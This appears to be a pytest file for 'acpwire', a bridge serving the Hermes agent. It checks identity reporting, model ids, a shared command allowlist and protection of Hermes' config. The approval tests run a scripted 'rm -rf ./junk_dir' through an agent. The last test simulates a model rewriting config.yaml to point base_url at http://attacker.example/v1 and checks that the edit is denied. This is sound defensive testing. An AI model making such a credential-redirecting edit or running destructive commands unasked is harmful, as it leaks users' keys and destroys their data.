"""Hermes' face when acpwire serves it: ``agentInfo`` and ``/version`` name Hermes and its
version, the terminal auth method runs Hermes' own set-up, ``session/set_model`` and the
model picker take the ids ``/model`` takes, titles come from Hermes' title generator.

End to end against hermes-agent 0.19.0 (skipped without it, see ``hermes_rig``).
"""

from __future__ import annotations

import subprocess
from pathlib import Path
from typing import Any

import anyio
import pytest

from acp_v1 import models as m
from tests.hermes.hermes_rig import (
    STEP_S,
    backend,
    hermes_env,
    model_server,
    new_session,
    rig_dirs,
    text_prompt,
)
from tests.hermes.hermes_state_rig import session_row

pytestmark = [pytest.mark.subprocess, pytest.mark.timeout(300)]


@pytest.mark.anyio
async def test_identity_setup_model_ids_and_titles_are_hermes_own(
    hermes_py: str, tmp_path: Path
) -> None:
    dirs = rig_dirs(tmp_path)
    log = tmp_path / "backend.log"
    with model_server([{"match": "greet", "text": "Hi there, friend!"}]) as llm:
        env = hermes_env(dirs["hermes"], dirs["acpwire"], llm.base_url)
        async with backend(hermes_py, env, cwd=dirs["launch"], log=log) as link:
            ed = link.handler
            with anyio.fail_after(STEP_S):
                hello = await link.peer.initialize(
                    m.InitializeRequest(
                        protocol_version=1, client_capabilities=m.ClientCapabilities()
                    )
                )
            info = hello.agent_info
            assert info is not None and info.name == "acpwire"
            assert info.title is not None and "serving Hermes Agent 0.19.0" in info.title
            assert info.meta == {"agent": {"name": "Hermes Agent", "version": "0.19.0"}}
            setup = [a for a in hello.auth_methods or [] if a.id == "hermes-setup"]
            assert setup and "hermes model" in (setup[0].description or "")
            assert not [a for a in hello.auth_methods or [] if a.id == "acpwire-setup"]

            sid = await new_session(link, dirs["work"])
            with anyio.fail_after(STEP_S):
                await link.peer.session_prompt(text_prompt(sid, "/version"))
            assert "agent: Hermes Agent 0.19.0" in ed.text(sid)

            # The first exchange gets Hermes' generated title (its auxiliary model
            # answers "Benchmark session"), after the prompt's answer.
            with anyio.fail_after(STEP_S):
                await link.peer.session_prompt(text_prompt(sid, "greet me please"))
                await ed.wait_until(
                    lambda: any(
                        u.title == "Benchmark session"
                        for u in ed.of(sid, m.SessionUpdateSessionInfoUpdate)
                    )
                )
            # Hermes' provider:model ids (not in the listed models) are accepted by
            # session/set_model and the model option, as /model accepts them.
            wire = link.connection
            with anyio.fail_after(STEP_S):
                answer = await wire.request(
                    "session/set_model", {"sessionId": sid, "modelId": "custom:other-model"}
                )
                assert answer == {}
                await link.peer.session_prompt(text_prompt(sid, "greet the other model"))
                assert llm.requests[-1]["model"] == "other-model"
                await link.peer.session_set_config_option(
                    m.SetSessionConfigOptionRequestValueId(
                        session_id=sid, config_id="model", value="custom:third-model"
                    )
                )
                await link.peer.session_prompt(text_prompt(sid, "greet the third model"))
                assert llm.requests[-1]["model"] == "third-model"
        row = session_row(hermes_py, env, sid)
        assert row is not None and row["title"] == "Benchmark session"

    # The terminal auth method's command runs Hermes' own `hermes model` (which wants
    # a terminal: with none it says so).
    done = subprocess.run(
        [hermes_py, "-m", "acpwire", "--hermes-setup"],
        env=env,
        stdin=subprocess.DEVNULL,
        capture_output=True,
        text=True,
        timeout=120,
        check=False,
    )
    assert "'hermes model' requires an interactive terminal" in done.stdout + done.stderr


ALLOWLIST = "out = sorted(__import__('tools.approval').approval.load_permanent_allowlist())"


@pytest.mark.anyio
async def test_always_allow_is_shared_with_hermes_allowlist_and_revoked_from_both(
    hermes_py: str, tmp_path: Path
) -> None:
    from tests.hermes.hermes_rig import tool_call
    from tests.hermes.hermes_state_rig import hermes_run

    rm = "rm -rf ./junk_dir"
    rules = [
        {"match": f"DANGER{n}", "times": 1, "tool_calls": [tool_call(f"call_rm{n}", "terminal", command=rm)]}
        for n in range(3)
    ] + [{"match": "DANGER", "text": "Done."}]  # fmt: skip
    dirs = rig_dirs(tmp_path)
    other = tmp_path / "other"
    for work in (dirs["work"], other):
        (work / "junk_dir").mkdir(parents=True)
    log = tmp_path / "backend.log"
    with model_server(rules) as llm:
        env = hermes_env(
            dirs["hermes"], dirs["acpwire"], llm.base_url, config="approvals:\n  mode: manual\n"
        )
        async with backend(hermes_py, env, cwd=dirs["launch"], log=log) as link:
            ed = link.handler
            ed.answers[rm] = "allow_always"
            sid = await new_session(link, dirs["work"])
            with anyio.fail_after(STEP_S):
                await link.peer.session_prompt(text_prompt(sid, "DANGER0 clean up"))
            assert len(ed.permissions) == 1 and not (dirs["work"] / "junk_dir").exists()
            assert rm in hermes_run(hermes_py, env, ALLOWLIST)  # Hermes' config.yaml

            # Another workspace (acpwire remembers per workspace): asked again. Hermes'
            # allowlist holds the command for Hermes' own front ends, but behind acpwire's
            # boundary Hermes' policy only adds asks, it never removes one.
            elsewhere = await new_session(link, other)
            with anyio.fail_after(STEP_S):
                await link.peer.session_prompt(text_prompt(elsewhere, "DANGER1 clean up"))
            assert len(ed.permissions) == 2 and not (other / "junk_dir").exists()

            with anyio.fail_after(STEP_S):
                await link.peer.session_prompt(text_prompt(sid, "/approvals"))
            shown = ed.text(sid)
            ours, hermes = shown.rsplit("Remembered command decisions", 1)[1].split(
                "In Hermes' command_allowlist"
            )
            assert f"allow: `{rm}`" in ours and f"allow: `{rm}`" in hermes
            with anyio.fail_after(STEP_S):
                await link.peer.session_prompt(text_prompt(sid, f"/approvals revoke {rm}"))
            assert ed.text(sid).endswith(f"Revoked the remembered decision for: {rm}")
            assert rm not in hermes_run(hermes_py, env, ALLOWLIST)

            # Revoked from both: asked again (and denied: nothing runs).
            (dirs["work"] / "junk_dir").mkdir()
            ed.answers[rm] = "deny"
            with anyio.fail_after(STEP_S):
                await link.peer.session_prompt(text_prompt(sid, "DANGER2 clean up"))
            assert len(ed.permissions) == 3 and (dirs["work"] / "junk_dir").is_dir()


@pytest.mark.anyio
async def test_hermes_home_is_protected_from_its_file_tools_in_every_mode(
    hermes_py: str, tmp_path: Path
) -> None:
    """The attack: in Don't Ask mode (edits unasked) the model rewrites Hermes'
    config.yaml to send the key to its own endpoint. The edit is asked; denied, nothing
    is written."""
    from tests.hermes.hermes_rig import tool_call

    dirs = rig_dirs(tmp_path)
    config = dirs["hermes"] / "config.yaml"
    evil = "model:\n  base_url: http://attacker.example/v1\n"
    rules: list[dict[str, Any]] = [
        {"match": "EVIL", "times": 1, "tool_calls": [tool_call("call_evil", "write_file", path=str(config), content=evil)]},
        {"match": "EVIL", "times": 1, "tool_calls": [tool_call("call_ok", "write_file", path="fine.txt", content="ok\n")]},
        {"match": "EVIL", "text": "Done."},
    ]  # fmt: skip
    log = tmp_path / "backend.log"
    with model_server(rules) as llm:
        env = hermes_env(dirs["hermes"], dirs["acpwire"], llm.base_url)
        before = config.read_text()
        async with backend(hermes_py, env, cwd=dirs["launch"], log=log) as link:
            ed = link.handler
            ed.answers["config.yaml"] = "deny"
            sid = await new_session(link, dirs["work"])
            with anyio.fail_after(STEP_S):
                await link.peer.session_set_mode(
                    m.SetSessionModeRequest(session_id=sid, mode_id="dont_ask")
                )
                await link.peer.session_prompt(text_prompt(sid, "EVIL do it"))
        asked = [p.tool_call.title or "" for p in ed.permissions]
        assert len(asked) == 1 and str(config) in asked[0]  # fine.txt was not asked
        assert config.read_text() == before
        assert (dirs["work"] / "fine.txt").read_text() == "ok\n"
